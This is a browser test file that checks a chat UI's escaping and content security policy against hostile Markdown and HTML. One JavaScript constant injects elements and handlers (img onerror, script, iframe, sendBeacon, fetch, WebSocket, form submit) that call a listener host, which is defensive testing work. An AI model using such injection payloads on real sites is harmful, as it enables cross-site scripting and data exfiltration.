"""Hostile Markdown and HTML in everything a page shows makes the browser fetch nothing and run nothing."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from walkdown.documents import (
    Answer,
    AnswerStatus,
    Check,
    Chunk,
    Claim,
    DocumentStatus,
    Evidence,
    Verdict,
)
from walkdown.errors import LLMUnavailableError, WalkdownError
from walkdown.testing.fake_server import FakeServer, FakeWorld
from walkdown.testing.payloads import payloads
from walkdown.wire import DocumentInfo, PackInfo, PartStatus
from walkdown_ui.languages import TEXTS

pytestmark = pytest.mark.browser

KO = TEXTS["ko"]
SETTLE_MS = 1_500
"""Time for a fetch to reach a listener on the same machine, after the last thing was drawn."""


class Hostile:
    """A world whose every text carries payloads; `all` holds each of them."""

    def __init__(self, host: str) -> None:
        self.payloads = payloads(host)
        self.all = "\n\n".join(self.payloads)
        self.line = " ".join(self.payloads)

    def chunk(self, number: int, text: str) -> Chunk:
        return Chunk(
            id=f"c{number}",
            document_id=f"{self.payloads[0]}/{number}",
            pack="power",
            title=self.line,
            revision=self.payloads[1],
            language="en",
            ordinal=number,
            text=text,
            heading_path=(self.line,),
        )

    def answer(self, status: AnswerStatus, question: str) -> Answer:
        chunks = [self.chunk(1, self.all), self.chunk(2, "| a |\n|---|\n| " + " |\n| ".join(self.payloads) + " |")]
        evidence = tuple(Evidence(number=i, chunk=c, score=1.0) for i, c in enumerate(chunks, 1))
        check = Check(name=self.payloads[22], verdict=Verdict.PASSED, reason=self.all)
        wrong = Check(name=self.payloads[22], verdict=Verdict.FAILED, reason=self.all)
        claims = tuple(Claim(text=p, citations=(1, 2), checks=(check,)) for p in self.payloads)
        return Answer(
            status=status,
            pack="power",
            question=question,
            language="en",
            text=self.all,
            reason=self.all,
            claims=() if status is AnswerStatus.REFUSED else claims,
            struck=(Claim(text=self.all, checks=(wrong,)),),
            evidence=evidence,
            notice=self.all,
            model=self.line,
            record_id=self.payloads[0],
        )

    def script(self, pack: str, question: str) -> Iterator[Answer | WalkdownError | tuple[str, dict[str, Any]]]:
        if question == "error":
            yield ("token", {"text": self.all})
            yield LLMUnavailableError(self.all, self.all)
            return
        status = AnswerStatus(question.split()[0])
        answer = self.answer(status, self.all)
        yield ("evidence", {"evidence": [e.model_dump(mode="json") for e in answer.evidence]})
        yield ("stage", {"name": self.payloads[0]})
        for payload in self.payloads:
            yield ("token", {"text": f"{payload}\n\n"})
        yield answer

    def world(self) -> FakeWorld:
        chunks = {c.id: c for c in (e.chunk for e in self.answer(AnswerStatus.QUOTED, "x").evidence)}
        scores = {"group": self.line, "questions": 1, "retrieval": {self.line: None}, "citation_hit": 0.5}
        document = DocumentInfo(
            id=chunks["c1"].document_id, pack="power", title=self.line, revision=self.line,
            status=DocumentStatus.FAILED, chunks=1, language="en", media_type="text/html", sha256="0" * 64,
            file_name=self.payloads[0] + ".html", error=self.all,
        )  # fmt: skip
        pack = PackInfo(
            name="power",
            title={"ko": self.line, "en": self.line},
            description={"ko": self.all},
            example_questions={"ko": self.payloads[:6]},
        )
        report = {
            "pack": "power", "set_name": self.line, "at": "2025-01-15T03:10:00Z", "model": self.line,
            "summaries": [scores],
        }  # fmt: skip
        return FakeWorld(
            packs=[pack],
            script=self.script,
            documents=[document, document.model_copy(update={"id": chunks["c2"].document_id})],
            chunks=chunks,
            originals={chunks["c1"].document_id: self.all.encode()},
            reports={"power": report},
            parts=(PartStatus(name=self.line, ok=False),),
            pause=0.02,
        )


def ask(page: Page, question: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_enabled()
    box.fill(question)
    box.press("Enter")


def nothing_came_of_it(page: Page, host: str) -> None:
    """No element of the page points at the listener."""
    pointing = page.evaluate(
        """host => [...document.querySelectorAll("*")].filter(e => [...e.attributes].some(
            a => !["value", "placeholder", "aria-label"].includes(a.name) && a.value.includes(host)))
            .map(e => e.outerHTML.slice(0, 200))""",
        host,
    )
    assert pointing == []


def test_every_place_a_text_is_shown(
    visit: Callable[[str], Any], ui_for: Callable[[str], str], canary: Any, browser: Browser
) -> None:
    hostile = Hostile(canary.host)
    with FakeServer(hostile.world()) as server:
        page = visit(ui_for(server.url)).page
        expect(page.locator(".wd-welcome")).to_contain_text(hostile.payloads[0])
        for status in AnswerStatus:
            ask(page, f"{status} please")
            expect(page.locator(".wd-draft, .wd-status").first).to_be_visible()
            expect(page.locator(".wd-status").first).to_have_class(f"wd-status wd-{status}")
            expect(page.locator(".wd-struck").first).to_contain_text(hostile.payloads[5])
            nothing_came_of_it(page, canary.host)
            if status is not AnswerStatus.REFUSED:
                page.get_by_text(KO.checks).first.click()
                expect(page.locator(".wd-checks").first).to_contain_text(hostile.payloads[8])
            page.locator("[class*=st-key-wd-cites] button").first.click()
            expect(page.locator(".wd-document")).to_contain_text(hostile.payloads[9])
            nothing_came_of_it(page, canary.host)
            page.get_by_role("button", name=KO.clear).click()
            expect(page.locator(".wd-welcome")).to_be_visible()
        ask(page, "error")
        expect(page.locator(".wd-problem")).to_contain_text(hostile.payloads[5])
        nothing_came_of_it(page, canary.host)
        page.get_by_role("link", name=KO.documents_page).click()
        expect(page.locator(".wd-failures")).to_contain_text(hostile.payloads[7])
        nothing_came_of_it(page, canary.host)
        page.get_by_role("link", name=KO.evaluation_page).click()
        expect(page.locator(".wd-scores")).to_contain_text(hostile.payloads[7])
        nothing_came_of_it(page, canary.host)
        page.wait_for_timeout(SETTLE_MS)
    assert canary.requests == []


_SMUGGLED = """host => {
    const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e) }
    add("img", {src: `http://${host}/img`});
    add("link", {rel: "stylesheet", href: `http://${host}/css`});
    add("iframe", {src: `http://${host}/frame`});
    add("script", {src: `http://${host}/script`});
    add("video", {src: `http://${host}/video`});
    add("object", {data: `http://${host}/object`});
    add("div", {style: `background:url(http://${host}/style)`});
    add("div", {innerHTML: `<img src=x onerror="new Image().src='http://${host}/handler'">`});
    navigator.sendBeacon(`http://${host}/beacon`, "x");
    fetch(`http://${host}/fetch`, {mode: "no-cors"}).catch(() => 0);
    try { new WebSocket(`ws://${host}/socket`) } catch (e) {}
    const form = document.createElement("form");
    form.action = `http://${host}/form`; form.method = "post"; document.body.append(form); form.submit();
}"""


def test_the_policy_holds_even_where_markup_gets_through(browser: Browser, plant_ui: str, canary: Any) -> None:
    # Elements put straight into the page stand for a hole in the escaping; the policy alone must stop them.
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(plant_ui)
        expect(page.locator(".wd-welcome")).to_be_visible()
        page.evaluate(_SMUGGLED, canary.host)
        page.wait_for_timeout(SETTLE_MS)
        assert canary.requests == []
    finally:
        context.close()


def test_the_listener_notices_what_an_unguarded_page_fetches(browser: Browser, canary: Any) -> None:
    # The control of the two tests above: the same payloads and elements do reach the listener elsewhere.
    context = browser.new_context()
    try:
        page = context.new_page()
        page.set_content("<p>unguarded</p>" + "".join(payloads(canary.host)[22:38]))
        page.evaluate(_SMUGGLED.replace("form.submit();", ""), canary.host)
        page.wait_for_timeout(SETTLE_MS)
        reached = {path.split("?")[0] for path in canary.requests}
        assert {"/h1", "/img", "/css", "/fetch", "/beacon", "/style", "/handler"} <= reached
    finally:
        context.close()
